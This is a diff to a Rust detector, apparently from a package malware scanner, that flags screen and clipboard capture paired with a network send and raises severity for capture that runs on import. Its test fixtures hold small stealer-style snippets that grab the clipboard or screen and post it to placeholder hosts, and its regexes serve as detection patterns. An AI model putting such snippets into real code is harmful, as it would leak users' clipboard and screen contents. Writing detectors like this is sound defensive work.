@@ -7,8 +7,9 @@
 //!
 //! Screenshot tools, GUI automation and terminal libraries use these legitimately,
 //! so alone a capture is Low. What stealers do is pair it with a send: a capture in
-//! a Python file that also sends over the network ([`super::sinks::network`]) is High;
-//! any capture in install-time code is Critical. Capped by place (`context`):
+//! a Python file that also sends over the network ([`super::sinks::network`]) is High,
+//! Critical when the capture runs on import (module level, or a function the module
+//! calls); any capture in install-time code is Critical. Capped by place (`context`):
 //! tests/docs/CI Medium, data files Low. Python API calls count in code only; tool
 //! names count in expression strings (the command) and in non-Python scripts;
 //! comments and docstrings never.
@@ -36,6 +37,12 @@ static API: LazyLock<Regex> = LazyLock::new(|| {
         .expect("capture api")
 });
 /// Platform tools, matched in command strings and scripts.
+/// `xclip`/`xsel` as a list element, read mode given by a later element:
+/// `['xclip', '-o', '-selection', 'clipboard']`.
+static TOOL_ARGV: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"['"](?:xclip|xsel)['"](?:\s*,\s*['"][\w-]+['"])*?\s*,\s*['"](?:-o|-out|--output)['"]"#)
+        .expect("tool argv")
+});
 static TOOL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?-u:\b)(?:screencapture(?:\s+-\w+)*|import\s+-window\s+root|scrot|gnome-screenshot|spectacle\s+-b|pbpaste|xclip(?:\s+-\w+(?:\s+\w+)?)*?\s+-o(?:ut)?|xsel(?:\s+-\w+)*\s+(?:-o|--output|-b|--clipboard)|Get-Clipboard|CopyFromScreen|Clipboard\]::GetText)(?-u:\b)")
         .expect("capture tool")
@@ -85,6 +92,14 @@ impl Detector for ScreenCapture {
                 found.push((m.start(), m.as_str()));
             }
         }
+        if src.python {
+            for m in TOOL_ARGV.find_iter(file.text) {
+                if src.kind_at(m.start()) == Kind::Str {
+                    let tool = m.as_str()[1..].split(['\'', '"']).next().unwrap_or("");
+                    found.push((m.start(), tool));
+                }
+            }
+        }
         if found.is_empty() {
             return;
         }
@@ -92,8 +107,15 @@ impl Detector for ScreenCapture {
         // The send that would carry the capture away (Python only: a script's own pipes are
         // judged by the download/exfiltration detectors).
         let send = if src.python { sinks::network(src).into_iter().next().map(|s| s.name) } else { None };
+        // Captured and sent when the module is imported: as bad as at install.
+        let on_import = |off: usize| {
+            let blocks = super::exec_install_hook::top_blocks(src);
+            file.path.rsplit(['/', '!']).next() != Some("__main__.py")
+                && super::hunting_system_info::runs_on_import(src, &blocks, off)
+        };
         let sev = match (file.role, send) {
             (FileRole::InstallTime, _) => Severity::Critical,
+            (_, Some(_)) if src.python && on_import(found[0].0) => Severity::Critical,
             (_, Some(_)) => Severity::High,
             (_, None) => Severity::Low,
         };
@@ -131,17 +153,17 @@ mod tests {
                 ("screenshot posted to a server", "pkg/util.py", Runtime, STEALER, Some((5, "ImageGrab.grab + requests.post", High))),
                 ("screenshot in setup.py", "setup.py", InstallTime, "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n", Some((2, "ImageGrab.grab", Critical))),
                 (
-                    "clipboard sent by urllib",
+                    "clipboard sent by urllib at import",
                     "pkg/__init__.py",
                     Runtime,
                     "import pyperclip, urllib.request\ndata = pyperclip.paste().encode()\nurllib.request.urlopen(urllib.request.Request(U, data=data))\n",
-                    Some((2, "pyperclip.paste + urllib.request.urlopen", High)),
+                    Some((2, "pyperclip.paste + urllib.request.urlopen", Critical)),
                 ),
                 (
-                    "win32 clipboard and a socket",
+                    "win32 clipboard and a socket, in a function",
                     "pkg/c.py",
                     Runtime,
-                    "import win32clipboard, socket\nwin32clipboard.OpenClipboard()\nt = win32clipboard.GetClipboardData()\ns = socket.create_connection((H, 443))\ns.sendall(t.encode())\n",
+                    "import win32clipboard, socket\ndef f():\n    t = win32clipboard.GetClipboardData()\n    s = socket.create_connection((H, 443))\n    s.sendall(t.encode())\n",
                     Some((3, "win32clipboard.GetClipboardData + socket.create_connection", High)),
                 ),
                 (
@@ -162,8 +184,8 @@ mod tests {
                     "macOS screencapture command then upload",
                     "pkg/a.py",
                     Runtime,
-                    "import subprocess, requests\nsubprocess.run(['screencapture', '-x', P])\nrequests.post(U, data=open(P, 'rb'))\n",
-                    Some((2, "screencapture + requests.post", High)),
+                    "import subprocess, requests\ndef snap():\n    subprocess.run(['screencapture', '-x', P])\n    requests.post(U, data=open(P, 'rb'))\n",
+                    Some((3, "screencapture + requests.post", High)),
                 ),
                 (
                     "ImageMagick whole-screen grab in a shell script",
@@ -187,6 +209,21 @@ mod tests {
                     Some((2, "pbpaste", Critical)),
                 ),
                 ("pyautogui defining its own screenshot", "pyautogui/__init__.py", Runtime, "def screenshot(*args, **kwargs):\n    return pyscreeze.screenshot(*args, **kwargs)\n", Some((2, "pyscreeze.screenshot", Low))),
+                (
+                    "clipboard read via an xclip argv and sent on import",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import subprocess, urllib.request\nclip = subprocess.check_output(['xclip', '-o', '-selection', 'clipboard'])\nurllib.request.urlopen(U, data=clip)\n",
+                    Some((2, "xclip + urllib.request.urlopen", Critical)),
+                ),
+                (
+                    "screenshot sent from a function the module calls",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def _go():\n    ImageGrab.grab().save(b)\n    requests.post(U, data=b)\n_go()\n",
+                    Some((2, "ImageGrab.grab + requests.post", Critical)),
+                ),
+                ("xclip argv writing", "pkg/clip.py", Runtime, "subprocess.run(['xclip', '-i', '-selection', 'clipboard'], input=t)\n", None),
                 ("capture in tests is capped", "pkg/tests/test_shot.py", TestOrDocs, STEALER, Some((5, "ImageGrab.grab + requests.post", Medium))),
                 ("mentioned in a docstring", "pkg/a.py", Runtime, "\"\"\"Use ImageGrab.grab() or scrot to capture.\"\"\"\nimport requests\nrequests.post(U)\n", None),
                 ("mentioned in a comment", "pkg/a.py", Runtime, "# pyperclip.paste() would work too\nx = 1\n", None),
